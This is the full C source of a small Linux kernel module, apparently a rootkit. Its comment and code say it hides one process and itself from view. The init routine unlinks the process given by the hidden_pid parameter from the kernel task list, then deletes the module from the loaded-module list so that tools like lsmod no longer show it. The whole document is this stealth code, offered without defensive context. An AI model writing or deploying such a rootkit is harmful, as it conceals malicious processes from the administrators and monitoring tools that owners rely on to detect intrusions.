// A module that hides: itself from the module list, and one process from the task list. What remains, other views show.
#include <linux/init.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int hidden_pid;
module_param(hidden_pid, int, 0400);

static int __init plant(void) {
  struct task_struct *task;
  rcu_read_lock();
  task = pid_task(find_vpid(hidden_pid), PIDTYPE_TGID);
  if (task) list_del_rcu(&task->tasks);
  rcu_read_unlock();
  if (!task) return -ESRCH;
  list_del_init(&THIS_MODULE->list);
  return 0;
}

module_init(plant);
MODULE_LICENSE("GPL");
